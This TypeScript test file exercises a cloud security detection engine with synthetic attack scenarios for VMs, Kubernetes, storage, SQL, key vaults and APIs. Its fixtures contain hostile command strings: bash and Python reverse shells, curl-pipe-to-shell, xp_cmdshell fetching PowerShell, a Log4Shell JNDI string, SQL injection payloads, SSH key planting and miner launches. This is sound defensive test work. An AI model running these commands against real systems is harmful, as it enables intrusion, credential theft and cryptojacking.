/**
 * Every detection of the shipped catalog, exercised through the engine: a scenario of events (background activity
 * long enough for baselines to learn, then the attack) must raise exactly the expected alert types — so each
 * detection fires on what it describes, and the more specific alert wins where several could. A closing check makes
 * sure no detection of the catalog is left without a scenario.
 */
import { describe, expect, it } from 'vitest';
import { openStore } from '../../src/store/index.js';
import type { SecurityAlertRecord, SecurityEvent } from '../../src/protection/index.js';
import {
  AKS,
  APIM,
  DAY,
  EICAR_MD5_BASE64,
  HOUR,
  MALWARE_MD5_HEX,
  MIN,
  SQL,
  STORAGE,
  SUSPICIOUS_IP,
  T0,
  TOR_IP,
  VAULT,
  VM,
  api,
  blob,
  catalog,
  event,
  kv,
  openEngine,
  proc,
  range,
  sql,
  sshAccepted,
  sshFailed,
} from './helpers.js';

/** When the attack happens: after eight days of background (the default learning period is seven). */
const ATTACK = T0 + 8 * DAY;
/** One background event a day (or `perDay`), for eight days. */
function daily(make: (t: number, i: number) => SecurityEvent | SecurityEvent[], perDay = 1): SecurityEvent[] {
  return range(8).flatMap((d) => range(perDay).flatMap((i) => make(T0 + d * DAY + 9 * HOUR + i * 7 * MIN, d * perDay + i)));
}
const md5Base64 = (hex: string) => Buffer.from(hex, 'hex').toString('base64');
const k8s = (t: number, verb: string, fields: Record<string, string | number | string[]>, principal = 'alice@contoso.example', ip = '10.0.0.5') =>
  event('kubernetesAudit', AKS, t, verb, { callerIp: ip, principal, fields: { verb, 'user.username': principal, 'sourceIPs[]': [ip], 'responseStatus.code': 201, ...fields } });

interface Scenario {
  events: SecurityEvent[];
  expect: string[];
  check?: (alerts: SecurityAlertRecord[]) => void;
}

const SCENARIOS: Record<string, Scenario> = {
  // ---- VirtualMachines --------------------------------------------------------------------------------------------
  VM_ReverseShell: { events: [proc(VM, ATTACK, 'bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1', '/usr/bin/bash')], expect: ['VM_ReverseShell'] },
  VM_CryptoCoinMinerExecution: {
    events: [proc(VM, ATTACK, '/tmp/.x/kswapd0 -o stratum+tcp://pool.example.net:3333 -u 4ABC --donate-level=0', '/tmp/.x/kswapd0')],
    expect: ['VM_CryptoCoinMinerExecution'],
  },
  VM_CryptoCoinMinerArtifacts: { events: [proc(VM, ATTACK, '/opt/xmrig --config=/opt/config.json', '/opt/xmrig')], expect: ['VM_CryptoCoinMinerArtifacts'] },
  'VM_CryptoCoinMinerArtifacts (a miner with mining options raises only the execution alert)': {
    events: [proc(VM, ATTACK, '/opt/xmrig -o stratum+tcp://pool.example.net:3333', '/opt/xmrig')],
    expect: ['VM_CryptoCoinMinerExecution'],
  },
  VM_DownloadAndRunCombo: { events: [proc(VM, ATTACK, 'sh -c curl -fsSL http://203.0.113.10/x.sh | sh', '/usr/bin/sh')], expect: ['VM_DownloadAndRunCombo'] },
  VM_HistoryFileCleared: { events: [proc(VM, ATTACK, 'bash -c history -c', '/usr/bin/bash')], expect: ['VM_HistoryFileCleared'] },
  VM_MinerInContainerImage: { events: [proc(VM, ATTACK, 'docker run -d --restart always metal3d/xmrig:latest', '/usr/bin/docker')], expect: ['VM_MinerInContainerImage'] },
  VM_SshBruteForceFailed: {
    events: range(25).map((i) => sshFailed(VM, ATTACK + i * 10_000, '203.0.113.5', `user${i}`)),
    expect: ['VM_SshBruteForceFailed'],
    check: ([a]) => expect(a.properties.extendedProperties['Attacker IP']).toBe('203.0.113.5'),
  },
  VM_SshBruteForceSuccess: {
    events: [...range(25).map((i) => sshFailed(VM, ATTACK + i * 10_000, '203.0.113.5')), sshAccepted(VM, ATTACK + 5 * MIN, '203.0.113.5')],
    expect: ['VM_SshBruteForceSuccess'],
    check: ([a]) => {
      expect(a.properties.severity).toBe('High');
      expect(a.properties.extendedProperties['Superseded alert']).toMatch(/^VM_SshBruteForceFailed/);
      expect(a.count).toBe(2); // its own trigger and the absorbed failed-brute-force alert
    },
  },
  VM_SshKeyAddition: { events: [proc(VM, ATTACK, 'bash -c echo ssh-ed25519 AAAAC3Nza attacker >> /root/.ssh/authorized_keys', '/usr/bin/bash')], expect: ['VM_SshKeyAddition'] },
  VM_KubernetesDashboard: {
    events: [proc(VM, ATTACK, 'curl -k https://10.0.0.10/api/v1/namespaces/kubernetes-dashboard/services/https:kubernetes-dashboard:/proxy/', '/usr/bin/curl')],
    expect: ['VM_KubernetesDashboard'],
  },
  VM_EICAR: { events: [proc(VM, ATTACK, './asc_alerttest_662jfi039n testing eicar pipe', '/tmp/asc_alerttest_662jfi039n')], expect: ['VM_EICAR'] },

  // ---- Containers ---------------------------------------------------------------------------------------------------
  K8S_PrivilegedContainer: {
    events: [k8s(ATTACK, 'create', { 'objectRef.resource': 'pods', 'objectRef.namespace': 'web', 'requestObject.spec.containers[].securityContext.privileged': ['false', 'true'], containerImages: ['nginx'] })],
    expect: ['K8S_PrivilegedContainer'],
  },
  'K8S_PrivilegedContainer (a refused request raises nothing)': {
    events: [k8s(ATTACK, 'create', { 'objectRef.resource': 'pods', 'requestObject.spec.containers[].securityContext.privileged': ['true'], 'responseStatus.code': 403 })],
    expect: [],
  },
  K8S_SensitiveMount: { events: [k8s(ATTACK, 'create', { 'objectRef.resource': 'pods', 'objectRef.namespace': 'web', hostPath: ['/var/run/docker.sock'] })], expect: ['K8S_SensitiveMount'] },
  K8S_ClusterAdminBinding: {
    events: [k8s(ATTACK, 'create', { 'objectRef.resource': 'clusterrolebindings', 'objectRef.name': 'backdoor', 'requestObject.roleRef.name': 'cluster-admin', 'requestObject.subjects[].name': ['mallory'] })],
    expect: ['K8S_ClusterAdminBinding'],
  },
  K8S_HighPrivilegesRole: { events: [k8s(ATTACK, 'create', { 'objectRef.resource': 'clusterroles', 'objectRef.name': 'all', 'requestObject.rules[].verbs[]': ['*'], 'requestObject.rules[].resources[]': ['pods'] })], expect: ['K8S_HighPrivilegesRole'] },
  K8S_AdmissionController: { events: [k8s(ATTACK, 'create', { 'objectRef.resource': 'mutatingwebhookconfigurations', 'objectRef.name': 'inject' })], expect: ['K8S_AdmissionController'] },
  K8S_DeleteEvents: { events: [k8s(ATTACK, 'deletecollection', { 'objectRef.resource': 'events', 'objectRef.namespace': 'web', 'responseStatus.code': 200 })], expect: ['K8S_DeleteEvents'] },
  K8S_ExposedDashboard: {
    events: [k8s(ATTACK, 'create', { 'objectRef.resource': 'services', 'objectRef.name': 'kubernetes-dashboard', 'requestObject.spec.type': 'LoadBalancer' })],
    expect: ['K8S_ExposedDashboard'],
  },
  K8S_ExposedService: { events: [k8s(ATTACK, 'create', { 'objectRef.resource': 'services', 'objectRef.name': 'jupyter-notebook', 'requestObject.spec.type': 'LoadBalancer' })], expect: ['K8S_ExposedService'] },
  K8S_MaliciousContainerImage: {
    events: [k8s(ATTACK, 'create', { 'objectRef.resource': 'deployments', 'objectRef.namespace': 'web', containerImages: ['docker.io/xmrig/xmrig:6.21.0'] })],
    expect: ['K8S_MaliciousContainerImage'],
  },
  K8S_TI_Proxy: { events: [k8s(ATTACK, 'get', { 'objectRef.resource': 'secrets', 'responseStatus.code': 200 }, 'bob@contoso.example', TOR_IP)], expect: ['K8S_TI_Proxy'] },
  K8S_ServiceAccountRareOperation: {
    events: [
      ...daily((t) => k8s(t, 'get', { 'objectRef.resource': 'configmaps', 'responseStatus.code': 200 }, 'system:serviceaccount:web:app')),
      k8s(ATTACK, 'list', { 'objectRef.resource': 'secrets', 'responseStatus.code': 200 }, 'system:serviceaccount:web:app'),
    ],
    expect: ['K8S_ServiceAccountRareOperation'],
  },
  'Palisade.K8S_ExecIntoPod': { events: [k8s(ATTACK, 'create', { 'objectRef.resource': 'pods', 'objectRef.subresource': 'exec', 'objectRef.name': 'web-1', 'responseStatus.code': 101 })], expect: ['Palisade.K8S_ExecIntoPod'] },
  'Palisade.K8S_AnonymousRequestAllowed': {
    events: [k8s(ATTACK, 'list', { 'objectRef.resource': 'secrets', requestURI: '/api/v1/secrets', 'responseStatus.code': 200 }, 'system:anonymous', '198.51.100.20')],
    expect: ['Palisade.K8S_AnonymousRequestAllowed'],
  },
  'K8S.NODE_ReverseShell': { events: [proc(AKS, ATTACK, 'python3 -c import socket,os,pty;s=socket.socket();s.connect(("203.0.113.10",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")', '/usr/bin/python3')], expect: ['K8S.NODE_ReverseShell'] },
  'K8S.NODE_DigitalCurrencyMining': { events: [proc(AKS, ATTACK, '/usr/local/bin/xmrig -o stratum+tcp://pool.example.net:3333', '/usr/local/bin/xmrig')], expect: ['K8S.NODE_DigitalCurrencyMining'] },
  'K8S.NODE_CryptoCoinMinerExecution': { events: [proc(AKS, ATTACK, '/tmp/kworker -o stratum+tcp://pool.example.net:3333 --donate-level=1', '/tmp/kworker')], expect: ['K8S.NODE_CryptoCoinMinerExecution'] },
  'K8S.NODE_CryptoCoinMinerDownload': {
    events: [proc(AKS, ATTACK, 'curl -sLo /tmp/x.tgz https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz', '/usr/bin/curl')],
    expect: ['K8S.NODE_CryptoCoinMinerDownload'],
  },
  'K8S.NODE_ImdsCall': {
    events: [
      ...daily((t) => proc(AKS, t, 'curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?resource=https://vault.azure.net', '/usr/bin/curl')),
      proc(AKS, ATTACK, 'wget -q --header=Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com', '/usr/bin/wget'),
    ],
    expect: ['K8S.NODE_ImdsCall'],
  },

  // ---- StorageAccounts ----------------------------------------------------------------------------------------------
  'Storage.Blob_MalwareHashReputation': { events: [blob(STORAGE, ATTACK, 'PutBlob', { status: 201, md5: md5Base64(MALWARE_MD5_HEX), key: '/contosodata01/uploads/setup.bin' })], expect: ['Storage.Blob_MalwareHashReputation'] },
  'Storage.Blob_MalwareDownload': {
    events: [blob(STORAGE, ATTACK, 'PutBlob', { status: 201, md5: md5Base64(MALWARE_MD5_HEX), key: '/contosodata01/uploads/setup.bin' }), blob(STORAGE, ATTACK + 2 * DAY, 'GetBlob', { key: '/contosodata01/uploads/setup.bin', ip: '10.9.0.4' })],
    expect: ['Storage.Blob_MalwareDownload', 'Storage.Blob_MalwareHashReputation'],
    check: (alerts) => expect(alerts.find((a) => a.properties.alertType === 'Storage.Blob_MalwareDownload')!.properties.severity).toBe('High'),
  },
  'Storage.Blob_MalwareDownload (the EICAR test file is Low)': {
    events: [blob(STORAGE, ATTACK, 'PutBlob', { status: 201, md5: EICAR_MD5_BASE64, key: '/contosodata01/uploads/eicar.com' }), blob(STORAGE, ATTACK + HOUR, 'GetBlob', { key: '/contosodata01/uploads/eicar.com' })],
    expect: ['Storage.Blob_MalwareDownload', 'Storage.Blob_MalwareHashReputation'],
    check: (alerts) => expect(alerts.find((a) => a.properties.alertType === 'Storage.Blob_MalwareDownload')!.properties.severity).toBe('Low'),
  },
  'Storage.Blob_TorAnomaly': { events: [blob(STORAGE, ATTACK, 'GetBlob', { ip: TOR_IP, auth: 'SAS' })], expect: ['Storage.Blob_TorAnomaly'] },
  'Storage.Blob_SuspiciousIp': { events: [blob(STORAGE, ATTACK, 'GetBlob', { ip: SUSPICIOUS_IP })], expect: ['Storage.Blob_SuspiciousIp'] },
  'Storage.Blob_SuspiciousApp': { events: [blob(STORAGE, ATTACK, 'ListBlobs', { ua: 'MicroBurst/2.0 (Invoke-EnumerateAzureBlobs)' })], expect: ['Storage.Blob_SuspiciousApp'] },
  'Storage.Blob_GeoAnomaly': {
    events: [...daily((t) => blob(STORAGE, t, 'GetBlob', { ip: '52.10.1.5' })), blob(STORAGE, ATTACK, 'GetBlob', { ip: '81.2.69.142' })],
    expect: ['Storage.Blob_GeoAnomaly'],
  },
  'Storage.Blob_AnonymousAccessAnomaly': {
    events: [...daily((t) => blob(STORAGE, t, 'GetBlob', { auth: 'Anonymous', key: '/contosodata01/assets/logo.png', ip: '81.2.69.1' })), blob(STORAGE, ATTACK, 'GetBlob', { auth: 'Anonymous', key: '/contosodata01/reports/q1.csv', ip: '81.2.69.1' })],
    expect: ['Storage.Blob_AnonymousAccessAnomaly'],
  },
  'Storage.Blob_OpenContainersScanning.FailedAttempt': {
    events: range(12).map((i) => blob(STORAGE, ATTACK + i * 20_000, 'ListBlobs', { auth: 'Anonymous', status: 404, key: `/contosodata01/guess${i}`, ip: '203.0.113.50' })),
    expect: ['Storage.Blob_OpenContainersScanning.FailedAttempt'],
    check: ([a]) => expect(a.properties.severity).toBe('Low'),
  },
  'Storage.Blob_OpenContainersScanning.SuccessfulDiscovery': {
    events: [
      ...range(12).map((i) => blob(STORAGE, ATTACK + i * 20_000, 'ListBlobs', { auth: 'Anonymous', status: 404, key: `/contosodata01/guess${i}`, ip: '203.0.113.50' })),
      blob(STORAGE, ATTACK + 5 * MIN, 'ListBlobs', { auth: 'Anonymous', key: '/contosodata01/backup', ip: '203.0.113.50' }),
    ],
    expect: ['Storage.Blob_OpenContainersScanning.SuccessfulDiscovery'],
  },
  'Storage.Blob_DataExfiltration.AmountOfDataAnomaly': {
    events: [...daily((t) => blob(STORAGE, t, 'GetBlob', { bytes: 1_000_000 }), 2), ...range(30).map((i) => blob(STORAGE, ATTACK + i * MIN, 'GetBlob', { bytes: 20_000_000 }))],
    expect: ['Storage.Blob_DataExfiltration.AmountOfDataAnomaly'],
  },
  'Storage.Blob_DeletionAnomaly': {
    events: [...daily((t) => blob(STORAGE, t, 'DeleteBlob'), 2), ...range(150).map((i) => blob(STORAGE, ATTACK + i * 10_000, 'DeleteBlob', { key: `/contosodata01/reports/r${i}.csv` }))],
    expect: ['Storage.Blob_DeletionAnomaly'],
  },
  'Storage.Blob_DataExplorationAnomaly': {
    events: [...daily((t) => blob(STORAGE, t, 'ListBlobs'), 2), ...range(250).map((i) => blob(STORAGE, ATTACK + i * 5_000, 'ListBlobs'))],
    expect: ['Storage.Blob_DataExplorationAnomaly'],
  },
  'Storage.Blob_AccessInspectionAnomaly': {
    events: [...daily((t) => blob(STORAGE, t, 'GetContainerProperties')), ...range(40).map((i) => blob(STORAGE, ATTACK + i * 30_000, 'GetContainerACL'))],
    expect: ['Storage.Blob_AccessInspectionAnomaly'],
  },
  'Storage.Blob_ApplicationAnomaly': { events: [...daily((t) => blob(STORAGE, t, 'GetBlob')), blob(STORAGE, ATTACK, 'GetBlob', { ua: 'AzCopy/10.22.0 Linux' })], expect: ['Storage.Blob_ApplicationAnomaly'] },
  'Storage.Blob_AccountSas.InternalSasUsedExternally': {
    events: [...daily((t) => blob(STORAGE, t, 'GetBlob', { auth: 'SAS', ip: '10.2.0.5' })), blob(STORAGE, ATTACK, 'GetBlob', { auth: 'SAS', ip: '52.1.2.3' })],
    expect: ['Storage.Blob_AccountSas.InternalSasUsedExternally'],
  },

  // ---- SqlServers ---------------------------------------------------------------------------------------------------
  'SQL.DB_BruteForce': {
    events: range(6).map((i) => sql(SQL, ATTACK + i * 1000, 'DATABASE_AUTHENTICATION_FAILED', { ip: '203.0.113.77', principal: `guess${i}`, info: '<login_information><error_code>18456</error_code><error_state>5</error_state></login_information>' })),
    expect: ['SQL.DB_BruteForce'],
    check: ([a]) => expect(a.properties.alertDisplayName).toBe('Suspected brute force attack'),
  },
  'SQL.DB_BruteForce (a valid user)': {
    events: range(6).map((i) => sql(SQL, ATTACK + i * 1000, 'DATABASE_AUTHENTICATION_FAILED', { ip: '203.0.113.77', principal: 'sa_app', info: '<login_information><error_code>18456</error_code><error_state>8</error_state></login_information>' })),
    expect: ['SQL.DB_BruteForce'],
    check: ([a]) => expect(a.properties.alertDisplayName).toBe('Suspected brute force attack using a valid user'),
  },
  'SQL.DB_BruteForce (successful)': {
    events: [
      ...range(6).map((i) => sql(SQL, ATTACK + i * 1000, 'DATABASE_AUTHENTICATION_FAILED', { ip: '203.0.113.77', principal: 'sa_app', info: '<login_information><error_state>8</error_state></login_information>' })),
      sql(SQL, ATTACK + 7000, 'DATABASE_AUTHENTICATION_SUCCEEDED', { ip: '203.0.113.77', principal: 'sa_app' }),
    ],
    expect: ['SQL.DB_BruteForce'],
    check: ([a]) => {
      expect(a.properties.alertDisplayName).toBe('Suspected successful brute force attack');
      expect(a.count).toBe(2); // the valid-user threshold and the successful sequence, merged
    },
  },
  'SQL.DB_VulnerabilityToSqlInjection': { events: [sql(SQL, ATTACK, 'BATCH_COMPLETED', { statement: "SELECT * FROM Orders WHERE Id = '1'' OR 1=1 --", error: 102 })], expect: ['SQL.DB_VulnerabilityToSqlInjection'] },
  'SQL.DB_PotentialSqlInjection': {
    events: [
      sql(SQL, ATTACK, 'BATCH_COMPLETED', { statement: "SELECT * FROM Orders WHERE Id = '1''", error: 105 }),
      sql(SQL, ATTACK + MIN, 'BATCH_COMPLETED', { statement: "SELECT * FROM Orders WHERE Id = '1' UNION SELECT name, password_hash FROM sys.sql_logins --" }),
    ],
    expect: ['SQL.DB_PotentialSqlInjection'],
  },
  'SQL.DB_HarmfulApplication': { events: [sql(SQL, ATTACK, 'DATABASE_AUTHENTICATION_SUCCEEDED', { app: 'sqlmap/1.7.2#stable', ip: '203.0.113.80' })], expect: ['SQL.DB_HarmfulApplication'] },
  'SQL.DB_SuspiciousIpAnomaly': { events: [...daily((t) => sql(SQL, t, 'DATABASE_AUTHENTICATION_SUCCEEDED')), sql(SQL, ATTACK, 'DATABASE_AUTHENTICATION_SUCCEEDED', { ip: SUSPICIOUS_IP })], expect: ['SQL.DB_SuspiciousIpAnomaly'] },
  'SQL.DB_GeoAnomaly': {
    events: [...daily((t) => sql(SQL, t, 'DATABASE_AUTHENTICATION_SUCCEEDED', { ip: '52.10.1.5' })), sql(SQL, ATTACK, 'DATABASE_AUTHENTICATION_SUCCEEDED', { ip: '81.2.69.142' })],
    expect: ['SQL.DB_GeoAnomaly'],
  },
  'SQL.DB_PrincipalAnomaly': {
    events: [...daily((t) => sql(SQL, t, 'DATABASE_AUTHENTICATION_SUCCEEDED')), sql(SQL, ATTACK, 'DATABASE_AUTHENTICATION_SUCCEEDED', { principal: 'backup_admin' })],
    expect: ['SQL.DB_PrincipalAnomaly'],
  },
  'SQL.DB_DomainAnomaly': {
    events: [...daily((t) => sql(SQL, t, 'DATABASE_AUTHENTICATION_SUCCEEDED')), sql(SQL, ATTACK, 'DATABASE_AUTHENTICATION_SUCCEEDED', { host: 'kali.attacker.example' })],
    expect: ['SQL.DB_DomainAnomaly'],
  },
  'SQL.DB_ShellExternalSourceAnomaly': {
    events: [sql(SQL, ATTACK, 'BATCH_COMPLETED', { statement: "EXEC xp_cmdshell 'powershell -c iwr http://203.0.113.9/a.ps1 | iex'" })],
    expect: ['SQL.DB_ShellExternalSourceAnomaly'],
  },

  // ---- KeyVaults ----------------------------------------------------------------------------------------------------
  KV_TORAccess: { events: [kv(VAULT, ATTACK, 'SecretGet', { ip: TOR_IP, object: 'db-password' })], expect: ['KV_TORAccess'] },
  KV_SuspiciousIPAccess: { events: [kv(VAULT, ATTACK, 'SecretGet', { ip: SUSPICIOUS_IP })], expect: ['KV_SuspiciousIPAccess'] },
  KV_SuspiciousIPAccessDenied: { events: [kv(VAULT, ATTACK, 'SecretGet', { ip: SUSPICIOUS_IP, status: 403 })], expect: ['KV_SuspiciousIPAccessDenied'] },
  KV_UnusualAccessSuspiciousIP: {
    events: [...daily((t) => kv(VAULT, t, 'SecretGet', { ip: '52.10.1.5' })), kv(VAULT, ATTACK, 'SecretGet', { ip: '81.2.69.142' })],
    expect: ['KV_UnusualAccessSuspiciousIP'],
  },
  KV_UserAnomaly: { events: [...daily((t) => kv(VAULT, t, 'SecretGet')), kv(VAULT, ATTACK, 'SecretGet', { upn: 'eve@contoso.example' })], expect: ['KV_UserAnomaly'] },
  KV_AppAnomaly: { events: [...daily((t) => kv(VAULT, t, 'SecretGet')), kv(VAULT, ATTACK, 'SecretGet', { app: '9f9f9f9f-0000-0000-0000-000000000001' })], expect: ['KV_AppAnomaly'] },
  KV_UserAppAnomaly: {
    events: [
      ...daily((t) => [kv(VAULT, t, 'SecretGet', { upn: 'ann@contoso.example', app: 'aaaaaaaa-0000-0000-0000-00000000000a' }), kv(VAULT, t + MIN, 'SecretGet', { upn: 'ben@contoso.example', app: 'bbbbbbbb-0000-0000-0000-00000000000b' })]),
      kv(VAULT, ATTACK, 'SecretGet', { upn: 'ann@contoso.example', app: 'bbbbbbbb-0000-0000-0000-00000000000b' }),
    ],
    expect: ['KV_UserAppAnomaly'],
  },
  KV_OperationPatternAnomaly: { events: [...daily((t) => kv(VAULT, t, 'SecretGet')), kv(VAULT, ATTACK, 'KeyDecrypt')], expect: ['KV_OperationPatternAnomaly'] },
  KV_OperationVolumeAnomaly: {
    events: [...daily((t) => kv(VAULT, t, 'SecretGet', { object: 'db' }), 3), ...range(150).map((i) => kv(VAULT, ATTACK + i * 10_000, 'SecretGet', { object: 'db' }))],
    expect: ['KV_OperationVolumeAnomaly'],
  },
  KV_AccountVolumeAnomaly: {
    events: [...daily((t) => kv(VAULT, t, 'SecretGet')), ...range(12).map((i) => kv(`${VAULT}-${i}`, ATTACK + i * MIN, 'SecretGet'))],
    expect: ['KV_AccountVolumeAnomaly'],
  },
  KV_AccountVolumeAccessDeniedAnomaly: {
    events: [...daily((t) => kv(VAULT, t, 'SecretGet')), ...range(7).map((i) => kv(`${VAULT}-${i}`, ATTACK + i * MIN, 'SecretGet', { status: 403 }))],
    expect: ['KV_AccountVolumeAccessDeniedAnomaly'],
  },
  KV_UserAccessDeniedAnomaly: { events: [...daily((t) => kv(VAULT, t, 'SecretGet')), kv(VAULT, ATTACK, 'SecretGet', { upn: 'eve@contoso.example', status: 403 })], expect: ['KV_UserAccessDeniedAnomaly'] },
  KV_ListGetAnomaly: {
    events: [kv(VAULT, ATTACK, 'SecretList'), ...['db-password', 'storage-key', 'sp-secret'].map((s, i) => kv(VAULT, ATTACK + (i + 1) * 1000, 'SecretGet', { object: s }))],
    expect: ['KV_ListGetAnomaly'],
  },
  KV_PutGetAnomaly: { events: [kv(VAULT, ATTACK, 'VaultPut'), kv(VAULT, ATTACK + 2 * MIN, 'SecretGet', { object: 'db-password' })], expect: ['KV_PutGetAnomaly'] },

  // ---- Api ----------------------------------------------------------------------------------------------------------
  API_AccessFromTorExitNode: { events: [api(APIM, ATTACK, 'https://contoso.azure-api.net/orders/v1/orders/43', { ip: TOR_IP })], expect: ['API_AccessFromTorExitNode'] },
  API_AccessFromSuspiciousIP: { events: [api(APIM, ATTACK, 'https://contoso.azure-api.net/orders/v1/orders/43', { ip: SUSPICIOUS_IP })], expect: ['API_AccessFromSuspiciousIP'] },
  API_AccessFromSuspiciousUserAgent: {
    events: [api(APIM, ATTACK, 'https://contoso.azure-api.net/orders/v1/orders/44', { ip: '203.0.113.99', ua: '${jndi:ldap://203.0.113.99:1389/a}', code: 400 })],
    expect: ['API_AccessFromSuspiciousUserAgent'],
  },
  API_SprayInRequests: {
    events: [
      ...daily((t, i) => api(APIM, t, `https://contoso.azure-api.net/orders/v1/orders/${i}`, { ip: '52.20.0.9', op: i % 2 ? 'get-order' : 'list-orders' }), 2),
      ...range(20).map((i) => api(APIM, ATTACK + i * 20_000, `https://contoso.azure-api.net/x/v1/r${i}`, { ip: '52.20.0.9', api: `api-${i % 4}`, op: `op-${i}` })),
    ],
    expect: ['API_SprayInRequests'],
  },
  API_ParameterEnumeration: {
    events: [
      ...daily((t, i) => api(APIM, t, `https://contoso.azure-api.net/orders/v1/orders/${100 + i}`, { ip: '52.20.0.9' }), 3),
      ...range(61).map((i) => api(APIM, ATTACK + i * 10_000, `https://contoso.azure-api.net/orders/v1/orders/${1000 + i}`, { ip: '52.20.0.9' })),
    ],
    expect: ['API_ParameterEnumeration'],
  },
  API_DistributedParameterEnumeration: {
    events: [
      ...daily((t, i) => api(APIM, t, `https://contoso.azure-api.net/orders/v1/orders/${100 + i}`, { ip: '52.20.0.9' }), 3),
      ...range(210).map((i) => api(APIM, ATTACK + i * 5_000, `https://contoso.azure-api.net/orders/v1/orders/${1000 + i}`, { ip: `198.18.${i >> 8}.${i & 255}` })),
    ],
    expect: ['API_DistributedParameterEnumeration'],
  },
  API_SpikeInAPITraffic: {
    events: [...daily((t) => api(APIM, t, 'https://contoso.azure-api.net/orders/v1/orders/42', { ip: '52.20.0.9' }), 5), ...range(400).map((i) => api(APIM, ATTACK + i * 2_000, 'https://contoso.azure-api.net/orders/v1/orders/42', { ip: '52.20.0.9' }))],
    expect: ['API_SpikeInAPITraffic'],
  },
  API_PopulationSpikeInAPITraffic: {
    events: [
      ...daily((t) => api(APIM, t, 'https://contoso.azure-api.net/orders/v1/orders/42', { ip: '52.20.0.9' }), 5),
      ...range(2100).map((i) => api(APIM, ATTACK + i * 500, 'https://contoso.azure-api.net/orders/v1/orders/42', { ip: `198.18.0.${i % 50}` })),
    ],
    expect: ['API_PopulationSpikeInAPITraffic'],
  },
  API_SpikeInPayload: {
    events: [...daily((t) => api(APIM, t, 'https://contoso.azure-api.net/orders/v1/orders/42', { ip: '52.20.0.9' }), 3), ...range(2).map((i) => api(APIM, ATTACK + i * MIN, 'https://contoso.azure-api.net/orders/v1/orders/42', { ip: '52.20.0.9', responseSize: 40_000_000 }))],
    expect: ['API_SpikeInPayload'],
    check: ([a]) => expect(a.properties.alertDisplayName).toMatch(/response payload/),
  },
  'API_SpikeInPayload (request body)': {
    events: [...daily((t) => api(APIM, t, 'https://contoso.azure-api.net/orders/v1/orders/42', { ip: '52.20.0.9' }), 3), ...range(2).map((i) => api(APIM, ATTACK + i * MIN, 'https://contoso.azure-api.net/orders/v1/orders/42', { ip: '52.20.0.9', requestSize: 40_000_000 }))],
    expect: ['API_SpikeInPayload'],
    check: ([a]) => expect(a.properties.alertDisplayName).toMatch(/request body/),
  },
  API_UnseenParam: {
    events: [...daily((t) => api(APIM, t, 'https://contoso.azure-api.net/orders/v1/orders?id=42')), api(APIM, ATTACK, 'https://contoso.azure-api.net/orders/v1/orders?id=42&debug=true')],
    expect: ['API_UnseenParam'],
  },
  API_UnseenParamType: {
    events: [...daily((t) => api(APIM, t, 'https://contoso.azure-api.net/orders/v1/orders?id=42')), api(APIM, ATTACK, "https://contoso.azure-api.net/orders/v1/orders?id=42'--")],
    expect: ['API_UnseenParamType'],
  },
};

describe('every catalog detection fires on its scenario, and only it', () => {
  for (const [name, scenario] of Object.entries(SCENARIOS)) {
    it(name, async () => {
      const store = await openStore(':memory:');
      const engine = await openEngine(store);
      for (const e of scenario.events) engine.process(e);
      await engine.close();
      const alerts = (await store.listDocuments<SecurityAlertRecord>('security-alerts')).map((d) => d.body);
      await store.close();
      expect(alerts.map((a) => a.properties.alertType).sort()).toEqual([...scenario.expect].sort());
      expect(engine.stats.errors).toBe(0);
      scenario.check?.(alerts);
    });
  }

  it('no detection of the catalog is left without a scenario', () => {
    const covered = new Set(Object.values(SCENARIOS).flatMap((s) => s.expect));
    const types = new Set(catalog().definitions.map((d) => d.alertType));
    expect([...types].filter((t) => !covered.has(t))).toEqual([]);
  });
});
